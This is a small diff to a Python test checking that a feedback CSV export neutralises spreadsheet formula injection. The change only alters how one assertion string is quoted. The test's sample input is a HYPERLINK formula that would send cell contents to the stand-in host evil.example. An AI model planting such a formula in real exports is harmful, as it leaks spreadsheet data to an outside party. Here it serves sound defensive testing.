@@ -126,6 +126,6 @@ def test_a_comment_a_spreadsheet_would_run_goes_out_as_text(client, admin, data)
 
     comments = [row[5] for row in rows(client.get("/overview/feedback.csv", {"start": "2026-03-01", "end": "2026-03-10"}))[1:]]
 
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in comments
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in comments
     assert "''=already quoted" in comments
     assert not [c for c in comments if c[:1] in ("=", "+", "-", "@")]
